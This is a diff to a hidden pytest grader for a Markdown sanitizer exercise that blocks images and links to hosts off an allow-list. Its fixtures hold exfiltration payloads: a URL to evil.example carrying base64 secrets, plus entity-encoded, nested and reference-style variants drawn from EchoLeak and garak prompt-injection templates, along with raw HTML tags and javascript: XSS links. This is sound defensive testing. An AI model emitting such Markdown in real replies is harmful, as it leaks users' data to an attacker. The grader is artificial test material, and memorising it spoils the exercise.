@@ -1,5 +1,8 @@
-"""Hidden checks for `safe_markdown`: is_allowed_url() and render_safe_markdown().
+"""Hidden checks for `safe_markdown`: is_allowed_url(), and safe_inline() through the
+provided render_safe_markdown().
 
+The output is judged the way a user meets it: rendered with markdown-it-py's CommonMark
+preset, the HTML read with html.parser, every src and href parsed with urlsplit.
 Host names are reserved for documentation and tests (RFC 2606, RFC 6761): the allowed
 host is img.example.com, the attacker's is evil.example. The reference-style templates
 are the ones garak's web_injection probes build from the EchoLeak write-up, and the
@@ -8,6 +11,11 @@ ATTRIBUTION.md).
 """
 
 from __future__ import annotations
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+from markdown_it import MarkdownIt
 
 HOSTS = frozenset({"img.example.com"})
 LEAK = "https://evil.example/logo.png?q=U2VjcmV0IHBsYW5z"  # base64 "Secret plans"
@@ -38,17 +46,82 @@ ZERO_CLICK = (
 )
 
 
+RENDERER = MarkdownIt("commonmark")
+
+
+class _Page(HTMLParser):
+    """What a browser gets from the rendered HTML: URLs it fetches or follows, and text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.urls: list[str] = []
+        self.images: list[str] = []
+        self.tags: list[str] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        for name, value in attrs:
+            if name in ("src", "href") and value:
+                self.urls.append(value)
+                if tag == "img":
+                    self.images.append(value)
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+ONE_CLICK = (
+    "One click on that link sends whatever its URL carries to a host that is not on the "
+    "allow-list (and a javascript: or data: link runs code in your page)."
+)
+
+
 def _render(exercise, md, hosts=HOSTS):
-    return exercise.render_safe_markdown(md, set(hosts))
+    """render_safe_markdown(md), with to_markdown()'s refusals turned into advice."""
+    try:
+        got = exercise.render_safe_markdown(md, set(hosts))
+    except ValueError as exc:
+        raise AssertionError(
+            f"render_safe_markdown({md!r}, {sorted(hosts)}) raised ValueError: {exc} "
+            "safe_inline() must return only PLAIN_INLINE tokens, text_token()s, allowed "
+            "images, and allowed links with both their link_open and link_close."
+        ) from None
+    assert isinstance(got, str), (
+        f"render_safe_markdown({md!r}) returned {got!r}, expected a str. Keep the provided "
+        "render_safe_markdown() as it is; your code goes into safe_inline()."
+    )
+    return got
+
+
+def _page(markdown: str) -> _Page:
+    page = _Page()
+    page.feed(RENDERER.render(markdown))
+    page.close()
+    return page
+
+
+def _foreign(url: str, hosts=HOSTS) -> bool:
+    try:
+        parts = urlsplit(url)
+        return parts.scheme not in ("http", "https") or parts.hostname not in hosts
+    except ValueError:
+        return True
 
 
 def _no_leak(exercise, md, what, hosts=HOSTS):
+    """Render md safely; fail if the result still renders a URL off the allowed hosts."""
     got = _render(exercise, md, hosts)
-    assert isinstance(got, str) and "evil.example" not in got, (
-        f"render_safe_markdown({md!r}, {sorted(hosts)}) returned {got!r}: the attacker's URL "
-        f"is still there ({what}). {ZERO_CLICK}"
-    )
-    return got
+    page = _page(got)
+    foreign = [url for url in page.urls if _foreign(url, hosts)]
+    if foreign:
+        kind = "an image" if foreign[0] in page.images else "a link"
+        why = ZERO_CLICK if kind == "an image" else ONE_CLICK
+        raise AssertionError(
+            f"render_safe_markdown({md!r}, {sorted(hosts)}) returned {got!r}, which a "
+            f"CommonMark renderer turns into {kind} to {foreign[0]!r} ({what}). {why}"
+        )
+    return got, "".join(page.text)
 
 
 def test_url_check_accepts_allowed_hosts(exercise):
@@ -151,152 +224,182 @@ def test_url_check_rejects_what_parsers_disagree_on(exercise):
         )
 
 
-def test_keeps_allowed_and_ordinary_markdown_unchanged(exercise):
-    """Leaves allowed images and links, plain text, brackets and comparisons exactly as they are"""
+def test_keeps_allowed_and_ordinary_markdown(exercise):
+    """Keeps allowed images and links, plain text, brackets, lists and code as they render"""
     texts = [
         "Q1 sales: ![chart](https://img.example.com/q1.png \"Sales by month\")",
         "See [the guide](https://img.example.com/guide.html) or <https://img.example.com/>.",
         "![logo][l]\n\n[l]: https://img.example.com/logo.png",
-        "Prices rose [sic] by 3 % (see table). 2 < 3 and 5 > 4.",
+        "[![chart](https://img.example.com/c.png)](https://img.example.com/c.html)",
+        "Prices rose [sic] by 3 % (see table). 2 < 3 and 5 > 4. *Really* **now**, `x[0]`.",
         "```python\nrows = [r for r in data if r[0] < 10]\n```",
         "- item one\n- item two\n\n> quoted [note]: not a definition here",
+        "# Report\n\n1. first\n2. second with ![icon](https://IMG.EXAMPLE.COM/i.png)",
         "Grüße 👋 — ünïcödé text stays too.",
         "",
     ]
     for md in texts:
         got = _render(exercise, md)
-        assert got == md, (
-            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected the "
-            "text unchanged: every URL in it is on the allowed host, or there is no URL at "
-            "all. Keep each match as it is (match.group(0)) when its URL is allowed."
+        want, have = RENDERER.render(md), RENDERER.render(got)
+        assert have == want, (
+            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, which "
+            f"renders as {have!r}; the input renders as {want!r}. Every URL here is on the "
+            "allowed host (or there is none), so nothing should change: keep allowed "
+            "images, allowed link_open/link_close pairs and every PLAIN_INLINE token. A "
+            "filter that blocks your own images gets switched off."
         )
 
 
 def test_neutralises_inline_images_and_links(exercise):
-    """Replaces blocked inline images with [image: ALT] and blocked links with their text"""
+    """Replaces refused images with [image: ALT] and refused links with their text"""
     cases = [
-        (f"Done! ![loading]({LEAK})", "Done! [image: loading]"),
+        (f"Done! ![loading]({LEAK})", "[image: loading]"),
         (f"![]({LEAK})", "[image]"),
         (f'![chart]({LEAK} "Q1")', "[image: chart]"),
         ("![x](<https://evil.example/a b.png>)", "[image: x]"),
         ("![x](HTTPS://EVIL.EXAMPLE/x.png)", "[image: x]"),
         ("![x](https://img.example.com@evil.example/x.png)", "[image: x]"),
-        (f"Read [the report]({LEAK}) now.", "Read the report now."),
+        (f"Read [the report]({LEAK}) now.", "the report"),
         ("[click](//evil.example/x)", "click"),
-        (f"![a](https://img.example.com/a.png) ![b]({LEAK})",
-         "![a](https://img.example.com/a.png) [image: b]"),
+        (f"![a](https://img.example.com/a.png) ![b]({LEAK})", "[image: b]"),
+        (f"[![img]({LEAK})](https://img.example.com/page)", "[image: img]"),
+        (f"[![img](https://img.example.com/i.png)]({LEAK})", ""),
     ]
-    for md, expected in cases:
-        got = _render(exercise, md)
-        assert got == expected, (
-            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected "
-            f"{expected!r}: a blocked image becomes [image: ALT] ([image] without alt text), a "
-            f"blocked link becomes its text. {ZERO_CLICK}"
+    for md, visible in cases:
+        got, text = _no_leak(exercise, md, "an inline image or link whose URL is not allowed")
+        assert visible in text, (
+            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, whose "
+            f"visible text {text!r} lacks {visible!r}: a refused image becomes "
+            "text_token('[image: ALT]') ('[image]' without alt text), and a refused link "
+            "keeps its text (drop only its link_open and link_close)."
         )
+    md = "![a](https://img.example.com/a.png) [b](https://img.example.com/b)" + f" ![c]({LEAK})"
+    got, _ = _no_leak(exercise, md, "one refused image among allowed ones")
+    kept = _page(got).urls
+    assert kept == ["https://img.example.com/a.png", "https://img.example.com/b"], (
+        f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, which keeps "
+        f"the URLs {kept}; expected the allowed image and link to stay. Decide on each "
+        "token separately."
+    )
 
 
 def test_neutralises_reference_style_images_and_links(exercise):
-    """Removes blocked reference definitions, as in EchoLeak's reference-style Markdown"""
+    """Neutralises reference-style images and links wherever the definition is written"""
     for template in GARAK_IMAGE_TEMPLATES + GARAK_LINK_TEMPLATES:
         md = template.format(text="Q1 numbers", uri=LEAK)
-        got = _no_leak(exercise, md, "a reference-style image or link: the URL is in the "
-                       "[label]: URL definition, which REF_DEF_RE finds")
-        assert "Q1 numbers" in got, (
-            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}: the visible "
-            "text 'Q1 numbers' disappeared. Remove only the definition (keep its `lead`)."
+        got, text = _no_leak(exercise, md, "a reference-style image or link, as in EchoLeak")
+        assert "Q1 numbers" in text, (
+            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}: the "
+            "visible text 'Q1 numbers' disappeared. Keep the alt text or link text."
         )
     variants = [
-        f"![a][r]\n\n> [r]: {LEAK}",
-        f"![a][r]\n\n- [r]: <{LEAK}>",
-        f"![a][r]\n\n   [r]: {LEAK} 'title'",
-        f"![a][r]\n\n[R]:\n    {LEAK}\n    \"title on the next line\"",
-        f"![a][r]\n\n[r]: {LEAK} (a\ntitle over two lines)",
+        (f"![a][r]\n\n> [r]: {LEAK}", "a definition in a block quote"),
+        (f"![a][r]\n\n- [r]: <{LEAK}>", "a definition in a list item"),
+        (f"![a][r]\n\n   [r]: {LEAK} 'title'", "an indented definition with a title"),
+        (f"![a][r]\n\n[R]:\n    {LEAK}\n    \"title on the next line\"",
+         "a definition with its URL on the next line"),
+        (f"![a][r]\r\n\r\n[r]: {LEAK}", "Windows line endings (\\r\\n)"),
+        (f"![a][r]\r\r[r]: {LEAK}", "old Mac line endings (a lone \\r)"),
+        (f"![a][r]\n\n-   > [r]: {LEAK}", "a definition in a block quote inside a list item"),
+        (f"![a][r]\n\n> - a\n>\n>   [r]: {LEAK}", "a definition in a list item in a quote"),
+        ("![a][r]\n\n1. [r]: https&colon;//evil.example/l.png?q=U2VjcmV0",
+         "a definition in a numbered list, with &colon; for the colon"),
+        ("![a][r]\r\r[r]: https&colon;//evil.example/l.png?q=U2VjcmV0",
+         "a lone \\r and an entity: no 'https://' anywhere in the text"),
     ]
-    for md in variants:
-        _no_leak(exercise, md, "a definition in a quote or list, indented, with a title or "
-                 "with the URL on the next line")
-    md = "![a][r]\n\n[r]: https://img.example.com/a.png"
+    for md, how in variants:
+        _no_leak(exercise, md, f"a reference-style image: {how}. The parser resolves "
+                 "![a][r] into an image token whose src IS the definition's URL: judge that")
+
+
+def test_judges_the_url_the_renderer_uses(exercise):
+    """Judges each URL as the renderer reads it: entities, escapes and parentheses included"""
+    cases = [
+        ("![x](https://evil.example&num;@img.example.com/p.png)",
+         "&num; is '#': the host ends before it, so the browser fetches from evil.example"),
+        ("![x](https://evil.example&quest;@img.example.com/p.png)", "&quest; is '?'"),
+        ("![x](https://evil.example&sol;@img.example.com/p.png)", "&sol; is '/'"),
+        ("![x](https://evil.example&#35;@img.example.com/p.png)", "&#35; is '#' too"),
+        ("![x](https&colon;//evil.example/p.png?q=((SECRET)))",
+         "&colon; is ':', and parentheses nest"),
+        ("![x](https://evil.example/p.png?q=((SECRET)))", "nested parentheses in the URL"),
+        ("![x](https://evil.example/p.png?q=\\(SECRET)", "an escaped parenthesis"),
+        ("![x](<https://evil.example/p.png?q=(>)", "a lone parenthesis inside <...>"),
+        ("[x](https://evil.example/?q=(a)(b)) more", "two pairs of parentheses"),
+    ]
+    for md, how in cases:
+        _no_leak(exercise, md, f"{how}. Use the src/href of the token: it is the decoded URL")
+    md = "![x](https&colon;//img.example.com/p.png)"
     got = _render(exercise, md)
-    assert got == md, (
-        f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected it "
-        "unchanged: the definition points at the allowed host."
+    kept = _page(got).urls
+    assert kept == ["https://img.example.com/p.png"], (
+        f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, keeping "
+        f"{kept}: once &colon; is decoded this is https://img.example.com/p.png, an allowed "
+        "image. Judge the token's src, not the text as it was written."
     )
 
 
 def test_neutralises_autolinks_html_and_script_urls(exercise):
-    """Neutralises blocked autolinks, every raw HTML tag, and javascript:/data: links"""
+    """Removes refused autolinks, every raw HTML tag, and javascript:/data: links"""
     cases = [
         (f"<{LEAK}>", "[link removed]"),
-        ("<JAVASCRIPT:alert(1)>", "[link removed]"),
-        (f'<img src="{LEAK}">', "[image]"),
-        (f"<IMG SRC={LEAK} alt=x>", "[image]"),
-        (f'<img\nsrc="{LEAK}"\n/>', "[image]"),
-        (f"<img/src={LEAK}>", "[image]"),
-        ('<img src="https://img.example.com/a.png">', "[image]"),
+        ("<ann@example.com>", "[link removed]"),
+        ("<https://img.example.com@evil.example/>", "[link removed]"),
+    ]
+    for md, visible in cases:
+        got, text = _no_leak(exercise, md, "an autolink")
+        assert visible in text and "evil.example" not in text, (
+            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, whose "
+            f"visible text is {text!r}; expected {visible!r} and nothing of the URL. An "
+            "autolink's text IS its URL: replace the whole autolink (markup 'autolink') "
+            "with text_token(LINK_REMOVED). Renderers with linkify would make the URL "
+            "clickable again."
+        )
+    # markdown-it never makes this a link (it refuses javascript: itself): text is fine.
+    _no_leak(exercise, "<JAVASCRIPT:alert(1)>", "a script autolink")
+    html = [
+        (f'<img src="{LEAK}">', ""),
+        (f"Hi <IMG SRC={LEAK} alt=x> there", "Hi"),
+        (f'<img\nsrc="{LEAK}"\n/>', ""),
+        ('<img src="https://img.example.com/a.png">', ""),
         (f'<a href="{LEAK}">click here</a>', "click here"),
         (f'<iframe src="{LEAK}"></iframe>', ""),
-        (f'<svg><image href="{LEAK}"/></svg>', ""),
+        (f'x <svg><image href="{LEAK}"/></svg>', "x"),
+        (f'<div>\n<img src="{LEAK}">\n</div>\n\nafter', "after"),
     ]
-    for md, expected in cases:
-        got = _render(exercise, md)
-        assert got == expected, (
-            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected "
-            f"{expected!r}: a blocked autolink becomes [link removed]; every raw HTML tag is "
-            "removed, whatever its URL, and an opening <img> tag becomes [image]. HTML has too "
-            "many ways to carry a URL (src, srcset, href, poster) to vet one by one."
+    for md, visible in html:
+        got, text = _no_leak(exercise, md, "raw HTML")
+        tags = [tag for tag in _page(got).tags if tag not in ("p",)]
+        assert not tags and visible in text, (
+            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, which "
+            f"renders the HTML tags {tags} and the text {text!r} (expected {visible!r} to "
+            "stay). Drop every html_inline token, whatever its URL: HTML has too many ways "
+            "to carry one (src, srcset, href, poster) to vet."
         )
     for payload in GARAK_MARKDOWN_JS:
         md = f"[link]({payload})"
-        got = _render(exercise, md)
-        assert got == "link", (
-            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, expected "
-            "'link': this is a published XSS payload; in a web UI the link would run script "
-            "in your origin when clicked. Only http(s) URLs on allowed hosts survive."
+        got, text = _no_leak(exercise, md, "a published XSS payload")
+        assert "link" in text, (
+            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, visible "
+            f"text {text!r}: the link text 'link' should stay, as text. (In a web UI this "
+            "link would run script in your origin when clicked; only http(s) URLs on "
+            "allowed hosts survive.)"
         )
 
 
-def test_never_creates_new_links(exercise):
-    """Repeats until nothing changes, so a replacement cannot form a new image or link"""
-    cases = [
-        ("![x](https://evil.example/1)(https://evil.example/2)(https://evil.example/3)",
-         "after one pass, [image: x](https://evil.example/2) is a brand-new link"),
-        ("<https://evil.example/a>(https://evil.example/b)",
-         "[link removed] followed by (URL) is a new link"),
-        ("![a [b] c](https://evil.example/?q=secret)",
-         "link text with brackets inside: LINK_TAIL_RE drops the URL"),
-        ("[![img](https://evil.example/i.png)](https://evil.example/page)",
-         "an image inside a link"),
-        ("![x](https://evil.example/a): https://evil.example/b",
-         "[image: x]: URL at the start of a line is a new definition"),
-    ]
-    for md, why in cases:
-        _no_leak(exercise, md, why + "; apply all five regexes again until the text stops "
-                 "changing")
-
-
-def test_handles_empty_long_and_wrong_input(exercise):
-    """Handles empty and long input, and refuses bytes"""
+def test_handles_empty_and_long_input(exercise):
+    """Handles an empty reply and a long one"""
     got = _render(exercise, "")
-    assert got == "", f"render_safe_markdown('', ...) returned {got!r}, expected ''."
+    assert got.strip() == "", f"render_safe_markdown('', ...) returned {got!r}, expected ''."
     paragraph = (
         "Revenue grew in every region. ![chart](https://img.example.com/r.png) "
         f"See [details]({LEAK}).\n\n"
     )
-    md = paragraph * 2000
-    got = _render(exercise, md)
-    expected = paragraph.replace(f"[details]({LEAK})", "details") * 2000
-    assert got == expected, (
-        "render_safe_markdown() on 2000 paragraphs (about 240 kB) did not return the same "
-        "result as on one paragraph, repeated: every blocked link must go and every allowed "
-        f"image must stay, however long the reply. First paragraph came back as {got[:200]!r}."
+    md = paragraph * 500
+    got, text = _no_leak(exercise, md, "in a reply of 500 paragraphs")
+    charts = _page(got).urls.count("https://img.example.com/r.png")
+    assert charts == 500 and text.count("details") == 500, (
+        f"render_safe_markdown() on 500 paragraphs (about 60 kB) kept {charts} of the 500 "
+        f"allowed charts and {text.count('details')} of the 500 link texts: every refused "
+        "link must go and every allowed image must stay, however long the reply."
     )
-    try:
-        result = exercise.render_safe_markdown(f"![x]({LEAK})".encode(), set(HOSTS))
-    except TypeError:
-        pass
-    else:
-        raise AssertionError(
-            f"render_safe_markdown(b'![x]({LEAK})', ...) returned {result!r}, expected "
-            "TypeError: the function takes text (str). The str regexes raise TypeError on "
-            "bytes by themselves, as long as nothing converts or swallows the input."
-        )
